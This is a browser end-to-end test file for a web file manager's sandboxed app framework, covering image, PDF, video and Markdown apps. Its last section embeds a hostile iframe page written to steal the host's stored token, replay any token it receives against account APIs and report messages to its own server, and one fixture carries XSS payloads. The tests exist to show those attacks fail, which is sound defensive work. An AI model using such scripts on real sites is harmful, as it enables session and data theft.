/**
 * Apps in Chromium (issue 37), as a visitor with a real Apache WebDAV share: a picture opened by a
 * double-click (EXIF orientation, zoom, next), a PDF (pdf.js), a video sought to its middle with
 * ranges only, a Markdown file edited and saved back to the share's disk (and a conflict refused),
 * 16 apps opened (the 16th refused), and a hostile external app that gets no token or file it was
 * not given. The page's real Content-Security-Policy applies (no bypass).
 */
import { createServer, type Server } from 'node:http';
import { existsSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Frame, Page, Request } from 'playwright-core';
import sharp from 'sharp';
import { giveToServer, startApacheWebdav, type ApacheWebdavServer } from '@skyferry/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, screenshot } from '../support/browser.ts';
import { startSkyferry, visitorWithCloud, type RunningSkyferry } from '../support/server.ts';
import { GUIDE_STEPS } from '../support/shell.ts';

const require = createRequire(import.meta.url);

let server: RunningSkyferry;
let dav: ApacheWebdavServer;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let hostile: Server;
let hostileOrigin = '';
/** Every message the hostile page received, as it reported them to its own server. */
const hostileSaw: string[] = [];

const pageErrors: string[] = [];

/** A PDF of `pages` pages, each saying its number (offsets computed, as a PDF needs). */
function makePdf(pages: number): Buffer {
  const objects: string[] = [];
  const kids = Array.from({ length: pages }, (_, i) => `${4 + i * 2} 0 R`).join(' ');
  objects.push('<< /Type /Catalog /Pages 2 0 R >>');
  objects.push(`<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`);
  objects.push('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  for (let i = 0; i < pages; i += 1) {
    const stream = `BT /F1 36 Tf 72 700 Td (Page ${i + 1}) Tj ET`;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${5 + i * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
    );
    objects.push(`<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`);
  }
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out);
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

function put(rel: string, content: string | Buffer): void {
  const file = join(dav.dir, rel);
  mkdirSync(join(file, '..'), { recursive: true });
  writeFileSync(file, content);
  giveToServer(join(file, '..'));
  giveToServer(file);
}

/** A seekable WebM (VP8, with cues) made in the browser with WebCodecs: `seconds` long, noisy enough to be a few MB. */
async function makeVideo(on: Page, seconds: number): Promise<Buffer> {
  // The package's UMD build (its exports name only the module builds).
  const umd = join(require.resolve('webm-muxer'), '..', 'webm-muxer.js');
  await on.addScriptTag({ path: umd });
  const b64 = await on.evaluate(async (secs: number) => {
    type Muxer = { addVideoChunk(c: unknown, m: unknown): void; finalize(): void; target: { buffer: ArrayBuffer } };
    const g = globalThis as unknown as {
      WebMMuxer: { Muxer: new (o: object) => Muxer; ArrayBufferTarget: new () => unknown };
      VideoEncoder: new (o: object) => {
        configure(o: object): void;
        encode(f: unknown, o: object): void;
        flush(): Promise<void>;
      };
      VideoFrame: new (c: unknown, o: object) => { close(): void };
      OffscreenCanvas: new (
        w: number,
        h: number,
      ) => {
        getContext(k: '2d'): { fillStyle: string; fillRect(x: number, y: number, w: number, h: number): void };
      };
    };
    const w = 640;
    const h = 360;
    const fps = 25;
    const muxer = new g.WebMMuxer.Muxer({
      target: new g.WebMMuxer.ArrayBufferTarget(),
      video: { codec: 'V_VP8', width: w, height: h, frameRate: fps },
    });
    const encoder = new g.VideoEncoder({
      output: (chunk: unknown, meta: unknown) => muxer.addVideoChunk(chunk, meta),
      error: (e: unknown) => console.error(e),
    });
    encoder.configure({ codec: 'vp8', width: w, height: h, bitrate: 10_000_000, framerate: fps });
    const canvas = new g.OffscreenCanvas(w, h);
    const ctx = canvas.getContext('2d');
    for (let i = 0; i < secs * fps; i += 1) {
      ctx.fillStyle = `hsl(${(i * 7) % 360} 70% 50%)`;
      ctx.fillRect(0, 0, w, h);
      for (let k = 0; k < 600; k += 1) {
        ctx.fillStyle = `rgb(${(Math.random() * 255) | 0},${(Math.random() * 255) | 0},${(Math.random() * 255) | 0})`;
        ctx.fillRect(Math.random() * w, Math.random() * h, 10, 10);
      }
      const frame = new g.VideoFrame(canvas, { timestamp: (i * 1_000_000) / fps });
      encoder.encode(frame, { keyFrame: i % fps === 0 });
      frame.close();
    }
    await encoder.flush();
    muxer.finalize();
    const bytes = new Uint8Array(muxer.target.buffer);
    let s = '';
    for (let i = 0; i < bytes.length; i += 0x8000) s += String.fromCharCode(...bytes.subarray(i, i + 0x8000));
    return btoa(s);
  }, seconds);
  return Buffer.from(b64, 'base64');
}

/** The hostile app: tries the host's storage, the account's API and a token request, and reports. */
const HOSTILE_PAGE = (serverUrl: string) => `<!doctype html><meta charset="utf-8"><title>{}</title><script>
const r = { messages: [] };
const report = () => { document.title = JSON.stringify(r); };
try { r.storage = String(window.parent.localStorage.getItem('skyferry.temp_token')); } catch (e) { r.storage = 'blocked'; }
try { r.parentDoc = String(window.parent.document.title); } catch (e) { r.parentDoc = 'blocked'; }
addEventListener('message', (e) => {
  fetch(location.origin + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ data: e.data, ports: e.ports.length }) });
  r.messages.push({ origin: e.origin, kind: e.data && e.data.type + '/' + e.data.request, code: e.data && e.data.code, data: e.data && e.data.data });
  const token = e.data && e.data.data && e.data.data.token;
  if (token) {
    fetch(${JSON.stringify(serverUrl)} + '/ecology/v1/app/files', { headers: { authorization: 'Bearer ' + token } })
      .then((x) => x.json()).then((b) => { r.files = b.data && b.data.files.map((f) => f.name); report(); });
    fetch(${JSON.stringify(serverUrl)} + '/ecology/v1/app/files/guessed-id/content', { headers: { authorization: 'Bearer ' + token } })
      .then((x) => x.json()).then((b) => { r.guessed = b.code; report(); });
    fetch(${JSON.stringify(serverUrl)} + '/api/cloud-manager/list', { method: 'POST', headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' }, body: '{}' })
      .then((x) => x.json()).then((b) => { r.account = b.code; report(); }, () => { r.account = 'blocked'; report(); });
  }
  report();
});
fetch(${JSON.stringify(serverUrl)} + '/api/v2/clouds/me', { credentials: 'include' })
  .then((x) => x.json()).then((b) => { r.clouds = b.code; report(); }, () => { r.clouds = 'blocked'; report(); });
const ask = (type, request, id) => parent.postMessage({ version: 'v1', mode: 'parent2iframe', type, request, session_id: id }, '*');
ask('loading', 'completed', 'h1');
ask('user', 'get_token', 'h2');
report();
</script>`;

beforeAll(async () => {
  [server, dav, browser] = await Promise.all([startSkyferry(), startApacheWebdav(), launchBrowser()]);
  // A 400x200 picture stored sideways (EXIF orientation 6: shown upright as 200x400).
  put(
    'Pictures/a-portrait.jpg',
    await sharp({ create: { width: 400, height: 200, channels: 3, background: '#3366cc' } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer(),
  );
  put(
    'Pictures/b-square.png',
    await sharp({ create: { width: 64, height: 64, channels: 3, background: '#cc3333' } })
      .png()
      .toBuffer(),
  );
  put('Docs/guide.pdf', makePdf(2));
  put('notes.md', '# Notes\n\nfirst line\n');
  put(
    'Docs/readme.md',
    '# Title\n\n*soft*\n\n<script>parent.postMessage("xss", "*")</script>\n<img src="x" onerror="document.title=\'xss\'">\n',
  );
  put('Docs/code.ts', 'export const answer: number = 42;\n');
  for (let i = 1; i <= 16; i += 1) put(`Many/file-${String(i).padStart(2, '0')}.txt`, `text ${i}`);
  put('Many/a rather long name for a text file that does not fit in a tab.txt', 'long');
  hostile = createServer((req, res) => {
    if (req.method === 'POST') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => (hostileSaw.push(body), res.end()));
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(HOSTILE_PAGE(server.url));
  });
  await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', r));
  hostileOrigin = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
  const token = await visitorWithCloud(server, 'Share', {
    cloud_name: 'webdav',
    credentials: { url: dav.url, username: dav.username, password: dav.password },
  });
  context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  await context.addInitScript(
    ({ temp, steps }: { temp: string; steps: string[] }) => {
      // Only the host page: the apps' frames keep their own (opaque or foreign) storage.
      if ((globalThis as { top?: unknown }).top !== globalThis) return;
      const pad = (n: number) => String(n).padStart(2, '0');
      const d = new Date();
      localStorage.setItem('skyferry.temp_token', JSON.stringify(temp));
      localStorage.setItem('skyferry.guide', JSON.stringify(Object.fromEntries(steps.map((s) => [s, true]))));
      localStorage.setItem('skyferry.qr_closed_at', JSON.stringify(Date.now()));
      localStorage.setItem(
        'skyferry.banner_closed_on',
        JSON.stringify(`${d.getFullYear()}-${pad(d.getMonth() + 1)}-${pad(d.getDate())}`),
      );
    },
    { temp: token, steps: GUIDE_STEPS },
  );
  page = await context.newPage();
  page.on('pageerror', (err) => pageErrors.push(err.message));
  // The video is made in a scratch page of its own (the muxer is an inline script, which the app's CSP refuses).
  const scratch = await browser.newContext({ bypassCSP: true });
  const maker = await scratch.newPage();
  await maker.goto(server.url + '/healthz');
  put('Videos/clip.webm', await makeVideo(maker, 20));
  await scratch.close();
  await page.goto(server.url + '/ecology');
});

afterAll(async () => {
  await context?.close();
  await browser?.close();
  await server?.stop();
  await dav?.stop();
  await new Promise((r) => hostile?.close(r));
});

const row = (name: string) => page.locator(`[data-testid="file-row"][data-name="${name}"]`).first();

async function openFolder(path: string): Promise<void> {
  await page.goto(`${server.url}/manage/explorer?cloud_index=0&is_open=1&_=${Date.now()}`);
  await row('Pictures').waitFor();
  for (const part of path.split('/').filter(Boolean)) await row(part).dblclick();
}

/** The frame of the app shown now (the visible one), once its page has loaded. */
async function shownApp(kind: 'viewer' | 'editor' | 'converter'): Promise<Frame> {
  await page.getByTestId('app-frame').filter({ visible: true }).waitFor();
  const key = await page.getByTestId('app-frame').filter({ visible: true }).getAttribute('data-app-key');
  const handle = await page.locator(`[data-app-key="${key}"]`).elementHandle();
  const frame = await handle?.contentFrame();
  if (!frame) throw new Error('no app frame');
  await frame.waitForURL(new RegExp(`/apps/${kind}\\.html`));
  return frame;
}

describe('opening files with apps', () => {
  it('lists the built-in apps and nothing else on /ecology', async () => {
    await page.getByTestId('app-list').waitFor();
    expect(await page.getByTestId('app-card').count()).toBe(3);
  });

  it('double-click opens a picture upright in the viewer, zooms, and goes to the next one', async () => {
    await openFolder('Pictures');
    await row('a-portrait.jpg').dblclick();
    await page.waitForURL(/\/ecology\/app\?app_id=1-/);
    expect(await page.getByTestId('app-frame').first().getAttribute('sandbox')).not.toContain('allow-same-origin');
    const viewer = await shownApp('viewer');
    const img = viewer.getByTestId('viewer-picture');
    await expect
      .poll(() =>
        img.evaluate((el: { naturalWidth: number; naturalHeight: number }) => [el.naturalWidth, el.naturalHeight]),
      )
      .toEqual([200, 400]);
    await viewer.getByTestId('viewer-zoom-in').click();
    expect(await viewer.getByTestId('viewer-zoom').textContent()).toBe('125%');
    await viewer.getByTestId('viewer-next').click();
    await expect.poll(() => viewer.getByTestId('viewer-name').textContent()).toBe('b-square.png');
    await expect.poll(() => page.getByTestId('app-tab').count()).toBe(1);
    await screenshot(page, 'apps-viewer-picture');
  });

  it('shows a PDF page by page', async () => {
    await openFolder('Docs');
    await row('guide.pdf').dblclick();
    const viewer = await shownApp('viewer');
    await expect.poll(() => viewer.getByTestId('viewer-page').textContent(), { timeout: 20_000 }).toBe('Page 1 of 2');
    await expect.poll(() => viewer.getByTestId('viewer-pdf-page').getAttribute('data-rendered')).toBe('1');
    await viewer.getByRole('button', { name: 'Next' }).last().click();
    await expect.poll(() => viewer.getByTestId('viewer-pdf-page').getAttribute('data-rendered')).toBe('2');
    // Switching tabs in the header keeps each app's state (is_keeping): the PDF stays on page 2.
    const tabButton = (i: number) => page.getByTestId('app-tab').nth(i).getByRole('button').first();
    const visibleKey = () =>
      page.getByTestId('app-frame').filter({ visible: true }).first().getAttribute('data-app-key');
    /** Clicks tab `i` and waits until its frame is the one shown. */
    const switchTo = async (i: number) => {
      const before = await visibleKey();
      await tabButton(i).click();
      await expect.poll(visibleKey).not.toBe(before);
      return shownApp('viewer');
    };
    const picture = await switchTo(0);
    await picture.getByTestId('viewer-next').click();
    await expect.poll(() => picture.getByTestId('viewer-name').textContent()).toBe('b-square.png');
    const pdf = await switchTo(1);
    expect(await pdf.getByTestId('viewer-pdf-page').getAttribute('data-rendered')).toBe('2');
    expect(await (await switchTo(0)).getByTestId('viewer-name').textContent()).toBe('b-square.png');
    // No app id: the screen goes back one step.
    await page.goto(`${server.url}/ecology`);
    await page.getByTestId('app-list').waitFor();
    await page.goto(`${server.url}/ecology/app`);
    await page.waitForURL(/\/ecology$/);
  });

  it('renders Markdown sanitised and highlights code', async () => {
    await openFolder('Docs');
    await row('readme.md').dblclick();
    const viewer = await shownApp('viewer');
    const article = viewer.getByTestId('viewer-markdown');
    await article.locator('h1', { hasText: 'Title' }).waitFor();
    expect(await article.locator('em').textContent()).toBe('soft');
    expect(await article.locator('script, [onerror]').count()).toBe(0);
    await page.goBack();
    await row('code.ts').dblclick();
    const code = (await shownApp('viewer')).getByTestId('viewer-code');
    await code.locator('.hljs-keyword', { hasText: 'export' }).waitFor();
  });

  it('converts a picture to PNG beside it with the image converter', async () => {
    await openFolder('Pictures');
    await row('a-portrait.jpg').click({ button: 'right' });
    await page.getByTestId('open-with').filter({ hasText: 'Image converter' }).click();
    const converter = await shownApp('converter');
    await converter.getByTestId('converter-format').selectOption('png');
    await converter.getByTestId('converter-max-side').fill('100');
    expect(await converter.getByTestId('converter-new-name').inputValue()).toBe('a-portrait-100.png');
    await converter.getByTestId('converter-submit').click();
    await expect
      .poll(() => converter.getByTestId('converter-status').textContent())
      .toBe('Saved as a-portrait-100.png');
    const made = await sharp(readFileSync(join(dav.dir, 'Pictures/a-portrait-100.png'))).metadata();
    expect([made.format, made.width, made.height]).toEqual(['png', 50, 100]);
    // Exported from the app to a cloud: the Export to dialog, then the product's folder there.
    await converter.getByTestId('converter-export').click();
    const dialog = page.getByTestId('export-dialog');
    await dialog.getByRole('radio').first().check();
    await dialog.getByTestId('export-submit').click();
    await expect.poll(() => existsSync(join(dav.dir, 'Skyferry/a-portrait-100.png')), { timeout: 20_000 }).toBe(true);
    expect(readFileSync(join(dav.dir, 'Skyferry/a-portrait-100.png'))).toEqual(
      readFileSync(join(dav.dir, 'Pictures/a-portrait-100.png')),
    );
    await page.getByTestId('export-close').click();
  });

  it('plays a video and seeks to its middle fetching ranges only', async () => {
    const size = readFileSync(join(dav.dir, 'Videos/clip.webm')).length;
    // Every request for the file's bytes, from any frame (the viewer's sandbox may be a process of its own).
    const requests: Array<Request> = [];
    const onRequest = (r: Request) => {
      if (r.url().includes('/content')) requests.push(r);
    };
    context.on('request', onRequest);
    await openFolder('Videos');
    await row('clip.webm').dblclick();
    const viewer = await shownApp('viewer');
    const video = viewer.getByTestId('viewer-media');
    await expect
      .poll(() => video.evaluate((v: { readyState: number }) => v.readyState), { timeout: 20_000 })
      .toBeGreaterThan(0);
    const duration = await video.evaluate((v: { duration: number }) => v.duration);
    // The player's own requests (other open apps' frames load their files too).
    const mine = () => requests.filter((r) => r.frame() === viewer);
    const beforeSeek = mine().length;
    expect(duration).toBeGreaterThan(10);
    await video.evaluate(
      (v: { currentTime: number; duration: number; addEventListener(e: string, f: () => void, o: object): void }) =>
        new Promise<void>((resolve) => {
          v.addEventListener('seeked', () => resolve(), { once: true });
          v.currentTime = v.duration / 2;
        }),
    );
    await expect
      .poll(() => video.evaluate((v: { readyState: number }) => v.readyState), { timeout: 20_000 })
      .toBeGreaterThanOrEqual(2);
    await page.waitForTimeout(500);
    context.off('request', onRequest);
    const ranges = await Promise.all(mine().map(async (r) => (await r.allHeaders()).range ?? ''));
    const starts = ranges.map((r) => Number(/^bytes=(\d+)-/.exec(r)?.[1] ?? NaN));
    // Every request asked for a range (none for the whole file), and the seek asked from the middle on.
    expect(ranges.length).toBeGreaterThan(beforeSeek);
    expect(
      starts.every((n) => Number.isInteger(n)),
      ranges.join(),
    ).toBe(true);
    expect(
      starts.slice(beforeSeek).some((n) => n > size * 0.3 && n < size * 0.7),
      `${size}: ${ranges.join()}`,
    ).toBe(true);
  });

  it('edits a Markdown file on WebDAV, saves it to the disk, and refuses to overwrite a change made meanwhile', async () => {
    await openFolder('/');
    await row('notes.md').click({ button: 'right' });
    await page.getByTestId('open-with').filter({ hasText: 'Editor' }).click();
    const editor = await shownApp('editor');
    const text = editor.getByTestId('editor-text');
    await expect.poll(() => text.inputValue()).toBe('# Notes\n\nfirst line\n');
    await text.fill('# Notes\n\nedited in Skyferry\n');
    await editor.getByTestId('editor-save').click();
    await expect.poll(() => editor.getByTestId('editor-status').textContent()).toBe('Saved');
    expect(readFileSync(join(dav.dir, 'notes.md'), 'utf8')).toBe('# Notes\n\nedited in Skyferry\n');
    // Someone else changes the file: the next save is refused, the other change kept, save as offered.
    await new Promise((r) => setTimeout(r, 1100));
    put('notes.md', '# Notes\n\nchanged on the server\n');
    await text.fill('# Notes\n\nmy second edit\n');
    await editor.getByTestId('editor-save').click();
    await expect
      .poll(() => editor.getByTestId('editor-status').textContent())
      .toBe('The file changed since you opened it. Save your work under another name.');
    expect(readFileSync(join(dav.dir, 'notes.md'), 'utf8')).toBe('# Notes\n\nchanged on the server\n');
    await editor.getByTestId('editor-save-as-name').fill('notes (mine).md');
    await editor.getByTestId('editor-save-as-submit').click();
    await expect.poll(() => editor.getByTestId('editor-status').textContent()).toBe('Saved');
    expect(readFileSync(join(dav.dir, 'notes (mine).md'), 'utf8')).toBe('# Notes\n\nmy second edit\n');
  });

  it('opens at most 15 apps: the 16th is refused with the message; tabs narrow over 8 and truncate names', async () => {
    await openFolder('Many');
    const long = 'a rather long name for a text file that does not fit in a tab.txt';
    await row(long).dblclick();
    await page.getByTestId('app-tab').filter({ hasText: long }).waitFor();
    const label = page.getByTestId('app-tab').filter({ hasText: long }).getByRole('button').first();
    expect(
      await label.evaluate((el: { scrollWidth: number; clientWidth: number }) => el.scrollWidth > el.clientWidth),
    ).toBe(true);
    for (let i = 1; (await page.getByTestId('app-tab').count()) < 15; i += 1) {
      await page.goBack();
      await row(`file-${String(i).padStart(2, '0')}.txt`).dblclick();
      await page.waitForURL(/\/ecology\/app/);
    }
    expect(await page.getByTestId('app-tabs').getAttribute('data-narrow')).toBe('true');
    await page.goBack();
    await row('file-16.txt').dblclick();
    await page.getByText('Too many pages are currently open, please close a few and try again').waitFor();
    expect(await page.getByTestId('app-tab').count()).toBe(15);
    await screenshot(page, 'apps-too-many');
    // Closing one makes room again.
    await page
      .getByTestId('app-tab')
      .first()
      .getByRole('button', { name: /^Close / })
      .click();
    expect(await page.getByTestId('app-tab').count()).toBe(14);
    while ((await page.getByTestId('app-tab').count()) > 0)
      await page
        .getByTestId('app-tab')
        .first()
        .getByRole('button', { name: /^Close / })
        .click();
  });
});

describe('a hostile app from another origin', () => {
  it('reads neither the host’s storage nor any token or file it was not given', async () => {
    // The install's first account is its operator; it registers the app from another origin.
    const signup = (await (
      await fetch(`${server.url}/api/account/signup`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ email: `op.${Date.now()}@example.com`, password: 'correct horse battery' }),
      })
    ).json()) as { data: { access_token: string } };
    const registered = (await (
      await fetch(`${server.url}/api/operator/apps`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${signup.data.access_token}` },
        body: JSON.stringify({
          name: 'Free stickers',
          url: `${hostileOrigin}/app`,
          functions: [{ name: 'Decorate', action: 'edit', extensions: ['png'] }],
        }),
      })
    ).json()) as { code: number; data: { app_id: number } };
    expect(registered.code).toBe(0);
    await openFolder('Pictures');
    await row('b-square.png').click({ button: 'right' });
    await page.getByTestId('open-with').filter({ hasText: 'Free stickers' }).click();
    const frameEl = page.getByTestId('app-frame').filter({ visible: true });
    await frameEl.waitFor();
    const frame = await (await frameEl.elementHandle())?.contentFrame();
    if (!frame) throw new Error('no hostile frame');
    const results = async () => JSON.parse(await frame.title()) as Record<string, unknown>;
    await expect.poll(async () => (await results()).files, { timeout: 15_000 }).toEqual(['b-square.png']);
    await expect.poll(async () => (await results()).guessed).toBe(404);
    await expect.poll(async () => (await results()).account).toBeDefined();
    await expect.poll(async () => (await results()).clouds).toBeDefined();
    const r = await results();
    expect(r.storage).toBe('blocked');
    expect(r.parentDoc).toBe('blocked');
    // Its app token does not open the account's calls (and those answer no other origin anyway).
    expect([140013, 'blocked']).toContain(r.account);
    expect([140013, 'blocked']).toContain(r.clouds);
    // Every message came from the host, none carried the visitor's token.
    const messages = r.messages as Array<{ origin: string; kind: string; code?: number; data?: unknown }>;
    expect(messages.every((m) => m.origin === server.url)).toBe(true);
    const temp = await page.evaluate(() => localStorage.getItem('skyferry.temp_token'));
    expect(JSON.stringify(messages)).not.toContain(JSON.parse(String(temp)) as string);
    // A visitor asking for the user token gets the login panel (spec section 4).
    expect(messages.find((m) => m.kind === 'user/get_token')?.code).toBe(401);
    await page.getByRole('dialog', { name: 'Log in' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog', { name: 'Log in' }).waitFor({ state: 'detached' });
    await page
      .getByTestId('app-tab')
      .first()
      .getByRole('button', { name: /^Close / })
      .click();
    await page.getByTestId('app-tab').waitFor({ state: 'detached' });
  });

  it('gets nothing when it takes over a built-in app’s sandbox, and the app is put back', async () => {
    await openFolder('Docs');
    await row('readme.md').dblclick();
    const viewer = await shownApp('viewer');
    await viewer.getByTestId('viewer-markdown').waitFor();
    const key = await page.getByTestId('app-frame').filter({ visible: true }).getAttribute('data-app-key');
    hostileSaw.length = 0;
    // Whatever makes the frame navigate (a script, a link): the page that arrives has the same opaque origin.
    const seen: string[] = [];
    const onFrame = (f: Frame) => {
      if (f.url().startsWith(hostileOrigin)) seen.push(f.url());
    };
    page.on('framenavigated', onFrame);
    await viewer.evaluate((to: string) => {
      (globalThis as unknown as { location: { href: string } }).location.href = to;
    }, `${hostileOrigin}/app`);
    await expect.poll(() => seen.length).toBeGreaterThan(0);
    // The host put the viewer back in its frame, which shows the file again.
    const back = await (await page.locator(`[data-app-key="${key}"]`).elementHandle())?.contentFrame();
    await expect.poll(() => back?.url() ?? '').toMatch(/\/apps\/viewer\.html/);
    await back?.getByTestId('viewer-markdown').waitFor();
    page.off('framenavigated', onFrame);
    // While it was there, the hostile page was sent nothing: no channel, no token, no file.
    await page.waitForTimeout(500);
    expect(hostileSaw).toEqual([]);
    expect(pageErrors).toEqual([]);
  });
});
